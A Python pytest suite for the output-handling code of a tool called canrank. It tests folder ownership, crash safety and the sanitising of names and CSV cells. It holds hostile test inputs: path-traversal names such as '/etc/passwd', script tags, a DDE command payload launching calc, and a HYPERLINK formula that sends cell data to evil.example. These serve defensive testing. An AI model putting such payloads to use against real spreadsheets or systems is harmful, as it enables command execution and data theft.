"""Hostile outputs: canrank never loses a file it did not write, and writes nothing executable.

The corpus is written by the tests: foreign folders holding a "thesis", ``--out .``, symlinked
folders, path tricks in names, edited manifests, runs killed with SIGKILL, concurrent runs, a
full disk and a read-only folder (small tmpfs mounts where the test may mount, skipped cleanly
otherwise), and text cells holding spreadsheet formulas, console markup and HTML.
"""

from __future__ import annotations

import csv
import errno
import json
import multiprocessing
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from canrank.errors import InputError
from canrank.outputs import (
    FORMULA_TRIGGERS,
    OWNERSHIP_RECORD,
    neutralise,
    neutralise_frame,
    output_file,
    output_folder,
    safe_component,
    unneutralise,
    unneutralise_frame,
    write_csv,
    write_json,
)

from synthetic import cli_build, write_study

REPO = Path(__file__).resolve().parents[1]
THESIS = "My thesis, three years of work.\n"


def _write_build(tmp: Path, tag: str, names: tuple[str, ...] = ("lsoa.csv", "cans.csv")) -> None:
    """What a build writes: some files and a manifest listing them."""
    for name in names:
        (tmp / name).write_text(f"{name} {tag}\n")
    manifest = {"canrank_version": "test", "tag": tag, "outputs": sorted([*names, "manifest.json"])}
    (tmp / "manifest.json").write_text(json.dumps(manifest))


def _entries(folder: Path) -> list[str]:
    return sorted(os.listdir(folder))


def _no_temp_left(folder: Path) -> bool:
    return not any(n.startswith(".canrank-tmp-") for n in os.listdir(folder))


# -- ownership: foreign folders are refused, the user's files survive ------------------------


def test_new_folder_is_created_and_filled(tmp_path: Path) -> None:
    out = tmp_path / "a" / "b" / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one")
    assert _entries(out) == ["cans.csv", "lsoa.csv", "manifest.json"]


def test_foreign_non_empty_folder_is_refused_and_left_alone(tmp_path: Path) -> None:
    out = tmp_path / "papers"
    out.mkdir()
    (out / "thesis.docx").write_text(THESIS)
    (out / "indicators.yaml").write_text("version: 1\n")
    with pytest.raises(InputError) as info, output_folder(out) as tmp:
        _write_build(tmp, "one")
    message = str(info.value)
    assert str(out) in message and "thesis.docx" in message
    assert "empty or new folder" in message
    assert _entries(out) == ["indicators.yaml", "thesis.docx"]
    assert (out / "thesis.docx").read_text() == THESIS


def test_refusal_comes_before_the_work(tmp_path: Path) -> None:
    out = tmp_path / "papers"
    out.mkdir()
    (out / "notes.txt").write_text("x")
    ran = []
    with pytest.raises(InputError), output_folder(out):
        ran.append(True)
    assert not ran


def test_users_files_in_a_canrank_folder_survive_rebuilds(tmp_path: Path) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one", ("lsoa.csv", "cans.csv", "old_only.csv"))
    (out / "field-notes.txt").write_text(THESIS)
    os.mkdir(out / "my-photos")
    (out / "my-photos" / "p.jpg").write_bytes(b"\xff\xd8")
    with output_folder(out) as tmp:
        _write_build(tmp, "two")
    assert (out / "field-notes.txt").read_text() == THESIS
    assert (out / "my-photos" / "p.jpg").read_bytes() == b"\xff\xd8"
    assert (out / "lsoa.csv").read_text() == "lsoa.csv two\n"
    assert json.loads((out / "manifest.json").read_text())["tag"] == "two"
    # the file the second run did not write again is kept, and still known as canrank's
    assert (out / "old_only.csv").read_text() == "old_only.csv one\n"
    record = json.loads((out / OWNERSHIP_RECORD).read_text())
    assert "old_only.csv" in record["outputs"] and "field-notes.txt" not in record["outputs"]
    with output_folder(out) as tmp:
        _write_build(tmp, "three", ("lsoa.csv", "cans.csv", "old_only.csv"))
    assert (out / "old_only.csv").read_text() == "old_only.csv three\n"
    assert not (out / OWNERSHIP_RECORD).exists()  # the manifest says it all again
    assert _no_temp_left(out)


def test_a_users_file_with_an_output_name_is_never_replaced(tmp_path: Path) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one", ("lsoa.csv",))
    (out / "map.html").write_text("my own map")
    names = ["lsoa.csv", "map.html", "manifest.json"]
    with pytest.raises(InputError, match="did not write it") as info, output_folder(out, names):
        pass
    assert info.value.file == str((out / "map.html").resolve())
    with pytest.raises(InputError, match="did not write it"), output_folder(out) as tmp:
        _write_build(tmp, "two", ("lsoa.csv", "map.html"))
    assert (out / "map.html").read_text() == "my own map"
    assert (out / "lsoa.csv").read_text() == "lsoa.csv one\n"
    assert _no_temp_left(out)


@pytest.mark.parametrize(
    "listed",
    [["../thesis.docx"], ["/etc/passwd"], ["thesis.docx"], ["..", "."], "not a list", [None, 3]],
)
def test_an_edited_manifest_cannot_make_canrank_touch_other_files(
    tmp_path: Path, listed: object
) -> None:
    parent = tmp_path / "work"
    out = parent / "build"
    out.mkdir(parents=True)
    (parent / "thesis.docx").write_text(THESIS)
    (out / "thesis.docx").write_text(THESIS)
    (out / "manifest.json").write_text(json.dumps({"canrank_version": "x", "outputs": listed}))
    with output_folder(out) as tmp:
        _write_build(tmp, "new")
    assert (parent / "thesis.docx").read_text() == THESIS
    assert (out / "thesis.docx").read_text() == THESIS
    assert (out / "lsoa.csv").read_text() == "lsoa.csv new\n"


def test_a_manifest_that_is_not_canranks_does_not_make_a_folder_canranks(tmp_path: Path) -> None:
    out = tmp_path / "other-tool"
    out.mkdir()
    (out / "manifest.json").write_text(json.dumps({"name": "some other tool"}))
    with pytest.raises(InputError, match="not written by canrank"), output_folder(out):
        pass
    (out / "manifest.json").write_text("{ not json")
    with pytest.raises(InputError, match="not written by canrank"), output_folder(out):
        pass


def test_out_dot_works_when_empty_and_is_refused_when_foreign(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    with output_folder(".") as tmp:
        _write_build(tmp, "one")
    with output_folder(Path(".")) as tmp:
        _write_build(tmp, "two")
    assert (here / "lsoa.csv").read_text() == "lsoa.csv two\n"
    assert here.is_dir() and _no_temp_left(here)
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.docx").write_text(THESIS)
    monkeypatch.chdir(home)
    with pytest.raises(InputError, match="not written by canrank"), output_folder("."):
        pass
    assert _entries(home) == ["thesis.docx"]


def test_symlinked_folder_is_written_through_and_stays_a_link(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real, target_is_directory=True)
    for tag in ("one", "two"):
        with output_folder(link) as tmp:
            _write_build(tmp, tag)
    assert link.is_symlink()
    assert (real / "lsoa.csv").read_text() == "lsoa.csv two\n"
    # a symlink to a foreign folder is refused like the folder itself
    other = tmp_path / "other"
    other.mkdir()
    (other / "thesis.docx").write_text(THESIS)
    link2 = tmp_path / "link2"
    link2.symlink_to(other)
    with pytest.raises(InputError, match="not written by canrank"), output_folder(link2):
        pass
    assert _entries(other) == ["thesis.docx"]


def test_output_path_that_is_a_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "thesis.docx"
    path.write_text(THESIS)
    with pytest.raises(InputError, match="is a file"), output_folder(path):
        pass
    assert path.read_text() == THESIS


def test_output_file_replaces_only_its_own_file(tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "thesis.docx").write_text(THESIS)
    target = folder / "summaries.csv"
    with output_file(target) as tmp:
        tmp.write_text("one\n")
    with output_file(target) as tmp:
        tmp.write_text("two\n")
    assert target.read_text() == "two\n"
    (folder / "mine.csv").write_text("user\n")
    with pytest.raises(InputError, match="did not write it"), output_file(folder / "mine.csv"):
        pass
    assert (folder / "mine.csv").read_text() == "user\n"
    assert (folder / "thesis.docx").read_text() == THESIS


# -- failures: nothing lost, nothing half-written, no litter ---------------------------------


def test_failure_keeps_previous_outputs_and_leaves_no_temp(tmp_path: Path) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one")
    before = {n: (out / n).read_bytes() for n in _entries(out)}
    with pytest.raises(RuntimeError), output_folder(out) as tmp:
        _write_build(tmp, "two")
        raise RuntimeError("the solver crashed")
    assert {n: (out / n).read_bytes() for n in _entries(out)} == before
    with pytest.raises(KeyboardInterrupt), output_folder(out) as tmp:
        (tmp / "lsoa.csv").write_text("half")
        raise KeyboardInterrupt
    assert {n: (out / n).read_bytes() for n in _entries(out)} == before


def test_failure_removes_the_folder_it_created(tmp_path: Path) -> None:
    out = tmp_path / "new" / "deeper" / "build"
    with pytest.raises(RuntimeError), output_folder(out):
        raise RuntimeError("boom")
    assert not (tmp_path / "new").exists()


def test_stale_temp_folders_of_dead_runs_are_removed(tmp_path: Path) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one")
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        check=True,
        capture_output=True,
        text=True,
    )
    dead_pid = int(dead.stdout)
    stale = out / f".canrank-tmp-{dead_pid}-abc123"
    stale.mkdir()
    (stale / "lsoa.csv").write_bytes(b"x" * 100_000)
    live = out / f".canrank-tmp-{os.getppid()}-live99"  # a live process's folder is kept
    live.mkdir()
    foreign_hidden = out / ".canrank-tmp-notapid"  # not canrank's pattern: kept
    foreign_hidden.mkdir()
    with output_folder(out) as tmp:
        _write_build(tmp, "two")
    assert not stale.exists()
    assert live.exists() and foreign_hidden.exists()


KILLED_WRITER = textwrap.dedent(
    """
    import os, sys, time
    from pathlib import Path
    from canrank.outputs import output_folder
    with output_folder(Path(sys.argv[1])) as tmp:
        (tmp / "lsoa.csv").write_bytes(b"0123456789" * 200_000)
        print("writing", flush=True)
        time.sleep(60)
    """
)


def test_sigkill_mid_write_leaves_previous_outputs_and_next_run_cleans_up(
    tmp_path: Path,
) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one")
    before = {n: (out / n).read_bytes() for n in _entries(out)}
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_WRITER, str(out)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=REPO,
    )
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "writing"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    litter = [n for n in os.listdir(out) if n.startswith(".canrank-tmp-")]
    assert litter  # the killed run could not clean up ...
    assert {n: (out / n).read_bytes() for n in _entries(out) if n not in litter} == before
    with output_folder(out) as tmp:
        _write_build(tmp, "two")
    assert _no_temp_left(out)  # ... the next run did
    assert (out / "lsoa.csv").read_text() == "lsoa.csv two\n"


def _concurrent_writer(args: tuple[str, int]) -> None:
    out, k = args
    for i in range(5):
        with output_folder(Path(out)) as tmp:
            tag = f"w{k}-{i}"
            for name in ("a.csv", "b.csv", "c.csv"):
                (tmp / name).write_text(tag)
            _write_build(tmp, tag, ("a.csv", "b.csv", "c.csv"))


def test_concurrent_runs_leave_one_consistent_folder(tmp_path: Path) -> None:
    out = tmp_path / "build"
    ctx = multiprocessing.get_context("spawn")
    with ctx.Pool(3) as pool:
        pool.map(_concurrent_writer, [(str(out), k) for k in range(3)])
    tag = json.loads((out / "manifest.json").read_text())["tag"]
    for name in ("a.csv", "b.csv", "c.csv"):
        assert (out / name).read_text() == f"{name} {tag}\n"
    assert _entries(out) == ["a.csv", "b.csv", "c.csv", "manifest.json"]


def test_disk_full_while_writing_is_one_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "build"
    with output_folder(out) as tmp:
        _write_build(tmp, "one")
    before = {n: (out / n).read_bytes() for n in _entries(out)}

    def full(*_args: object, **_kw: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(out / "x" / "lsoa.csv"))

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    with pytest.raises(InputError, match="the disk is full") as info, output_folder(out) as tmp:
        write_csv(pd.DataFrame({"a": [1]}), tmp / "lsoa.csv")
    assert "lsoa.csv" in str(info.value) and "--out" in str(info.value)
    assert {n: (out / n).read_bytes() for n in _entries(out)} == before
    assert _no_temp_left(out)


@contextmanager
def _tmpfs(where: Path, options: str) -> Iterator[Path]:
    """Mount a small tmpfs (root only); skip the test when mounting is not possible."""
    where.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def test_real_full_disk_on_a_small_tmpfs(tmp_path: Path) -> None:
    with _tmpfs(tmp_path / "small", "size=256k") as disk:
        out = disk / "build"
        with output_folder(out) as tmp:
            _write_build(tmp, "one")
        before = {n: (out / n).read_bytes() for n in _entries(out)}
        big = pd.DataFrame({"name": ["=x" * 50] * 20_000, "v": np.arange(20_000) / 7})
        manifest = {"canrank_version": "t", "outputs": ["lsoa.csv"]}
        with pytest.raises(InputError, match="the disk is full") as info, output_folder(out) as tmp:
            write_csv(big, tmp / "lsoa.csv")
            write_json(manifest, tmp / "manifest.json")
        assert "What to do" in str(info.value)
        assert {n: (out / n).read_bytes() for n in _entries(out)} == before
        assert _no_temp_left(out)


def test_read_only_folder_is_one_clear_error(tmp_path: Path) -> None:
    with _tmpfs(tmp_path / "ro", "size=64k,ro") as disk:
        with pytest.raises(InputError, match="read-only") as info, output_folder(disk / "b"):
            pass
        assert str(disk) in str(info.value)
        with pytest.raises(InputError, match="read-only"), output_folder(disk):
            pass


def test_permission_denied_is_one_clear_error(tmp_path: Path) -> None:
    """As an unprivileged user (root ignores permissions, so the test drops to ``nobody``)."""
    base = Path(tempfile.mkdtemp(prefix="canrank-perm-"))  # in /tmp, searchable by everyone
    os.chmod(base, 0o755)
    locked = base / "locked"
    locked.mkdir()
    script = textwrap.dedent(
        f"""
        import sys
        from canrank.errors import InputError
        from canrank.outputs import output_folder
        try:
            with output_folder({str(locked / "build")!r}):
                pass
        except InputError as exc:
            print(exc)
            sys.exit(2)
        """
    )
    if os.geteuid() == 0:
        os.chmod(locked, 0o555)
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        probe = subprocess.run(
            [*cmd, sys.executable, "-c", "import canrank"],
            check=False,
            capture_output=True,
            cwd=REPO,
        )
        if probe.returncode != 0:
            pytest.skip("cannot run canrank as an unprivileged user here")
    else:
        os.chmod(locked, 0o555)
        cmd = []
    try:
        done = subprocess.run(
            [*cmd, sys.executable, "-c", script],
            capture_output=True,
            text=True,
            check=False,
            cwd=REPO,
        )
    finally:
        os.chmod(locked, 0o755)
        shutil.rmtree(base, ignore_errors=True)
    assert done.returncode == 2, done.stderr
    assert "permission denied" in done.stdout and str(locked) in done.stdout
    assert "Traceback" not in done.stderr


# -- names that become paths --------------------------------------------------------------

HOSTILE_NAMES = [
    "../../x",
    "..",
    ".",
    "",
    "/etc/passwd",
    "a/../../b",
    "..\\..\\windows",
    ".hidden",
    "-rf",
    "x\x00y",
    "tab\there",
    "new\nline",
    "[/red]",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://x")',
    "CON",
    "nul.txt",
    "é" * 300,
    "name.",
    " spaced ",
    "~",
    "$HOME",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_safe_component_never_leaves_the_root(tmp_path: Path, name: str) -> None:
    part = safe_component(name)
    assert part and len(part) <= 100
    assert "/" not in part and "\\" not in part and "\x00" not in part
    assert part not in (".", "..") and not part.startswith((".", "-"))
    assert all(ch.isprintable() and ch.isascii() for ch in part)
    root = tmp_path / "root"
    assert (root / part).resolve().parent == root.resolve()


def test_safe_component_keeps_plain_names_and_keeps_names_apart() -> None:
    for name in ("lcc-2017", "gla-2017-proxies", "scenario_1.v2", "A"):
        assert safe_component(name) == name
    parts = [safe_component(n) for n in HOSTILE_NAMES]
    assert len(set(parts)) == len(HOSTILE_NAMES)
    assert safe_component("a/b") != safe_component("a_b")
    assert safe_component("../../x") == safe_component("../../x")  # deterministic


# -- formula neutralisation -----------------------------------------------------------------

TRIGGER_TEXTS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=already quoted",
    "''=twice",
]
PLAIN_TEXTS = ["Hackney", "[/red]", "<script>alert(1)</script>", "'quoted", "a=b", "", "E01000001"]


@pytest.mark.parametrize("text", TRIGGER_TEXTS)
def test_neutralise_prefixes_formula_triggers_and_round_trips(text: str) -> None:
    safe = neutralise(text)
    assert safe.startswith("'") and safe[:1] not in FORMULA_TRIGGERS
    assert unneutralise(safe) == text


@pytest.mark.parametrize("value", [*PLAIN_TEXTS, 1, -2.5, 0.0, None, np.nan, np.int64(-3)])
def test_neutralise_leaves_other_values(value: object) -> None:
    out = neutralise(value)
    assert out is value or (isinstance(value, float) and np.isnan(value) and np.isnan(out))
    assert unneutralise(out) is value or out is value


def test_neutralise_frame_touches_text_only() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series([*TRIGGER_TEXTS[:4], "ok"], dtype=object),
            "label": pd.Series(["-x", "y", None, "@z", "w"], dtype="string"),
            "cat": pd.Categorical(["=a", "b", "=a", "b", "c"]),
            "score": [-1.5, 2.0, -0.25, 1e-9, 3.0],
            "rank": pd.array([1, -2, 3, None, 5], dtype="Int64"),
            "=sum(A1)": [1, 2, 3, 4, 5],
        }
    )
    out = neutralise_frame(frame)
    assert out["score"].tolist() == frame["score"].tolist()
    assert out["rank"].dtype == frame["rank"].dtype
    assert out["name"].tolist()[:4] == ["'" + t for t in TRIGGER_TEXTS[:4]]
    assert out["label"].tolist()[0] == "'-x" and out["label"].tolist()[3] == "'@z"
    assert out["cat"].tolist()[0] == "'=a"
    assert "'=sum(A1)" in out.columns
    back = unneutralise_frame(out)
    assert back["name"].tolist() == frame["name"].tolist()
    assert frame["name"].tolist()[0] == "=1+1"  # the input frame is not changed


def test_write_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    texts = TRIGGER_TEXTS + PLAIN_TEXTS
    frame = pd.DataFrame(
        {
            "ward_name": texts,
            "borough_name": list(reversed(texts)),
            "score": np.linspace(-1, 1, len(texts)),
            "population": np.arange(len(texts)) * 1000 + 1,
        }
    )
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    raw = path.read_bytes()
    assert b"\r" not in raw  # a bare CR would end a row in most readers
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert len(rows) == len(texts) + 1
    for row in rows[1:]:
        for cell in row[:2]:
            assert cell[:1] not in FORMULA_TRIGGERS, cell
        assert float(row[2]) == pytest.approx(float(row[2]))  # numbers stay numbers
    back = pd.read_csv(path, keep_default_na=False)
    assert back["score"].dtype == float and back["score"].iloc[0] == -1.0
    assert back["population"].dtype.kind == "i"
    restored = unneutralise_frame(back)["ward_name"].tolist()
    expected = [t.replace("\r", "\n") for t in texts]
    assert restored == expected


# -- end to end through the CLI -------------------------------------------------------------

runner = CliRunner()


def _hostile_study(root: Path):
    """The miniature study with formula, markup and HTML text in every name field."""
    import geopandas as gpd

    study = write_study(root)
    names = [
        '=HYPERLINK("http://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "[/red][bold]",
        "<script>alert(1)</script>",
    ]
    bounds = gpd.read_file(study.boundaries)
    bounds["LSOA11NM"] = [f"{names[i % len(names)]} {i:03d}A" for i in range(len(bounds))]
    boroughs = {"Northtown": names[0], "Midtown": names[2], "Southtown": names[4]}
    bounds["LAD11NM"] = bounds["LAD11NM"].map(boroughs)
    bounds.to_file(study.boundaries, driver="GPKG")
    file7 = pd.read_csv(study.file7, dtype=str)
    file7["LSOA name (2011)"] = (
        bounds.set_index("LSOA11CD").loc[file7["LSOA code (2011)"], "LSOA11NM"].to_numpy()
    )
    file7["Local Authority District name (2013)"] = file7[
        "Local Authority District name (2013)"
    ].map(boroughs)
    file7.to_csv(study.file7, index=False)
    return study


def _build(study, out: Path | str, *extra: str):
    return cli_build(study, out, *extra)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_build_csvs_neutralise_every_text_cell(tmp_path: Path) -> None:
    study = _hostile_study(tmp_path / "mini")
    out = tmp_path / "out"
    result = _build(study, out)
    assert result.exit_code == 0, result.output
    seen_trigger = False
    for name in ("lsoa.csv", "cans.csv"):
        with (out / name).open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        for row in rows:
            for cell in row:
                if cell[:1] in FORMULA_TRIGGERS:
                    assert _is_number(cell), (name, cell)
                seen_trigger |= cell.startswith("'=") or cell.startswith("'+")
    assert seen_trigger  # the hostile names did reach the outputs, neutralised


def test_build_refuses_a_foreign_out_and_keeps_its_files(tmp_path: Path) -> None:
    study = write_study(tmp_path / "mini")
    out = tmp_path / "thesis-folder"
    out.mkdir()
    (out / "thesis.docx").write_text(THESIS)
    result = _build(study, out)
    assert result.exit_code == 2
    assert "not written by canrank" in result.output and "thesis-folder" in result.output
    assert "Traceback" not in result.output
    assert _entries(out) == ["thesis.docx"]


def test_build_into_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    study = write_study(tmp_path / "mini")
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    for _ in range(2):
        result = _build(study, ".")
        assert result.exit_code == 0, result.output
    assert {"lsoa.csv", "cans.csv", "manifest.json", "map.html"} <= set(os.listdir(here))
    outputs = json.loads((here / "manifest.json").read_text()).get("outputs")
    if outputs is not None:  # the manifest lists every file: no ownership record is needed
        assert sorted(os.listdir(here)) == sorted(outputs)
    assert _no_temp_left(here)


def test_output_subfolders_are_replaced_whole_and_user_files_beside_them_kept(
    tmp_path: Path,
) -> None:
    out = tmp_path / "build"
    for tag in ("one", "two"):
        with output_folder(out, names=["draws"]) as tmp:
            (tmp / "draws").mkdir()
            (tmp / "draws" / f"draw-{tag}.csv").write_text(tag)
        (out / f"notes-{tag}.txt").write_text("mine")
    assert sorted(os.listdir(out / "draws")) == ["draw-two.csv"]
    assert (out / "notes-one.txt").exists() and (out / "notes-two.txt").exists()
    with pytest.raises(ValueError, match="not a plain file name"), output_folder(out, ["../x"]):
        pass
